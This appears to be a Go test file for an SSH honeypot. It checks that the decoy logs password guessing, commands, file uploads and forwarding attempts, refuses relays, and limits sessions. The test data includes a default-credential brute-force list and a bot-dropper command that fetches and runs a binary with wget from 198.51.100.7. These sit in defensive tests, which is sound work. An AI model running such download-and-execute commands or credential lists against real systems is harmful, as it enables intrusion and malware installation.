package ssh

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"bartizan/internal/decoy"
	"bartizan/internal/observe"
)

// TestDrillOrder plays the list that the node's drill plays: guessing must
// show before access does.
func TestDrillOrder(t *testing.T) {
	c := Default()
	c.FailDelay = time.Millisecond
	r := start(t, c)
	list := [][2]string{
		{"root", "123456"}, {"admin", "admin123"}, {"root", "password"}, {"ubuntu", "ubuntu1"}, {"root", "12345678"}, {"test", "test123"}, {"oracle", "oracle1"},
		{"root", "qwerty"}, {"postgres", "postgres1"}, {"root", "1q2w3e4r"}, {"root", "admin"}, {"admin", "admin"}, {"root", "root"}, {"pi", "raspberry"},
	}
	for round := range 3 {
		for i, g := range list {
			client, err := r.dial(g[0], g[1])
			if err != nil {
				if i >= 11 {
					t.Fatalf("round %d: still nobody let in at attempt %d", round, i+1)
				}
				continue
			}
			if i < 5 {
				t.Errorf("round %d: let in at attempt %d, want at least 5 failures", round, i+1)
			}
			if out := run(t, client, "echo $((6*7)); id -un"); !strings.Contains(out, "42") || !strings.Contains(out, g[0]) {
				t.Errorf("answer %q", out)
			}
			client.Close()
			break
		}
	}
	r.sink.wait(t, "accepted login", func(o *observe.Observation) bool { return o.Auth != nil && o.Auth.Accepted })
	if n := r.sink.count(func(o *observe.Observation) bool {
		return o.Auth != nil && o.Auth.Method == "password" && !o.Auth.Accepted
	}); n < 15 {
		t.Errorf("%d failures reported, want at least 15", n)
	}
}

func TestExecIsReported(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "anything")
	if out := run(t, c, "cd /tmp && wget http://198.51.100.7/bot -O b; chmod +x b; ./b"); out == "" {
		t.Error("no output at all")
	}
	if out := run(t, c, "exit 3; echo no"); out != "" {
		t.Errorf("output after exit: %q", out)
	}
	if out := run(t, c, "uname -s"); strings.TrimSpace(out) != "Linux" {
		t.Errorf("a second exec on one connection says %q", out)
	}
	r.sink.wait(t, "command", func(o *observe.Observation) bool {
		return o.Command != nil && strings.Contains(o.Command.Line, "wget http://198.51.100.7/bot") && o.Command.User == "root"
	})
	r.sink.wait(t, "fetch", func(o *observe.Observation) bool { return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.7/bot" })
	c.Close()
	end := r.sink.wait(t, "end", func(o *observe.Observation) bool { return o.Interaction != nil && o.Interaction.Ended })
	if !strings.HasPrefix(end.Interaction.Client, "SSH-2.0-Go") || len(end.Interaction.Prints.HASSH) != 32 {
		t.Errorf("client %q, hassh %q", end.Interaction.Client, end.Interaction.Prints.HASSH)
	}
	if len(end.Evidence) != 1 || !bytes.Contains(end.Evidence[0].Data, []byte("uname -s")) || !bytes.Contains(end.Evidence[0].Data, []byte("Linux")) {
		t.Error("the transcript lacks what was typed or seen")
	}
}

func TestExitStatus(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "x")
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var exit *gossh.ExitError
	if err := s.Run("exit 7"); !errors.As(err, &exit) || exit.ExitStatus() != 7 {
		t.Errorf("exit 7 gives %v", err)
	}
}

func TestUploadThroughExec(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "x")
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte("\x7fELF payload "), 5000)
	s.Stdin = bytes.NewReader(payload)
	if err := s.Run("cat > /tmp/.x"); err != nil {
		t.Fatal(err)
	}
	if out := run(t, c, "wc -c < /tmp/.x"); strings.TrimSpace(out) != "65000" {
		t.Errorf("the other channel sees %q", out)
	}
	c.Close()
	o := r.sink.wait(t, "file", func(o *observe.Observation) bool { return o.File != nil && o.File.Path == "/tmp/.x" })
	if len(o.Evidence) != 1 || !bytes.Equal(o.Evidence[0].Data, payload) {
		t.Error("content is not what was sent")
	}
}

func TestInteractiveShell(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "x")
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.RequestPty("xterm", 24, 80, gossh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	out, _ := s.StdoutPipe()
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	if err := s.WindowChange(40, 120); err != nil {
		t.Fatal(err)
	}
	io.WriteString(in, "echo a$((40+2))b\r")
	io.WriteString(in, "exit\r")
	all, err := io.ReadAll(out)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Wait(); err != nil {
		t.Errorf("shell ends with %v", err)
	}
	text := string(all)
	for _, want := range []string{"root@", "a42b\r\n", "echo a$((40+2))b\r\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q lacks %q", text, want)
		}
	}
	r.sink.wait(t, "typed command", func(o *observe.Observation) bool { return o.Command != nil && o.Command.Line == "echo a$((40+2))b" })
}

func TestRelaysAreRefused(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "x")
	_, err := c.Dial("tcp", "203.0.113.9:25")
	var refused *gossh.OpenChannelError
	if !errors.As(err, &refused) || refused.Reason != gossh.Prohibited || refused.Message != "open failed" {
		t.Errorf("direct-tcpip: %v", err)
	}
	if _, err := c.Listen("tcp", "0.0.0.0:8080"); err == nil {
		t.Error("tcpip-forward granted")
	}
	if _, err := c.Dial("unix", "/var/run/docker.sock"); err == nil {
		t.Error("direct-streamlocal granted")
	}
	for _, want := range [][2]string{{"direct-tcpip", "203.0.113.9:25"}, {"tcpip-forward", "0.0.0.0:8080"}, {"direct-streamlocal@openssh.com", "/var/run/docker.sock"}} {
		r.sink.wait(t, want[0], func(o *observe.Observation) bool {
			return o.Forward != nil && o.Forward.Kind == want[0] && o.Forward.Target == want[1]
		})
	}
}

func TestStrangersAreAnsweredAsSSHDDoes(t *testing.T) {
	r := start(t, open())
	for _, c := range [...]struct{ send, want string }{
		{"GET / HTTP/1.1\r\n\r\n", "Invalid SSH identification string.\r\n"},
		{"SSH-1.5-old\r\n", "Protocol major versions differ.\r\n"},
		{strings.Repeat("A", 300), "Invalid SSH identification string.\r\n"},
		{"\x16\x03\x01\x00\xa5\x01\n", "Invalid SSH identification string.\r\n"},
	} {
		conn, err := net.Dial("tcp", r.addr)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(conn, c.send)
		conn.SetReadDeadline(time.Now().Add(5 * time.Second))
		got, err := io.ReadAll(conn)
		conn.Close()
		if err != nil {
			t.Fatalf("%q: %v", c.send, err)
		}
		first, rest, _ := strings.Cut(string(got), "\r\n")
		if first != r.inst.Persona.SSH.Banner || rest != c.want {
			t.Errorf("%.20q gets %q then %q, want %q", c.send, first, rest, c.want)
		}
	}
}

func TestLoginGrace(t *testing.T) {
	c := open()
	c.LoginGrace = 50 * time.Millisecond
	r := start(t, c)
	conn, err := net.Dial("tcp", r.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	io.WriteString(conn, "SSH-2.0-slow\r\n")
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadAll(conn); errors.Is(err, io.EOF) || isTimeout(err) {
		t.Errorf("a visitor who does not log in stays: %v", err)
	}
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

func TestSessionsAreBounded(t *testing.T) {
	r := start(t, open())
	c := r.mustDial(t, "root", "x")
	opened := 0
	for range 15 {
		ch, reqs, err := c.OpenChannel("session", nil)
		if err != nil {
			continue
		}
		go gossh.DiscardRequests(reqs)
		defer ch.Close()
		opened++
	}
	if opened != 10 {
		t.Errorf("%d sessions, want 10", opened)
	}
}

func TestEventsAreBounded(t *testing.T) {
	r := start(t, open(), func(l *decoy.Limits) { l.Events = 50 })
	c := r.mustDial(t, "root", "x")
	for i := range 200 {
		if _, err := c.Dial("tcp", "203.0.113.9:25"); err != nil && !strings.Contains(err.Error(), "open failed") {
			if i < 40 {
				t.Errorf("dropped after %d wishes", i)
			}
			return
		}
	}
	t.Error("200 wishes were heard")
}
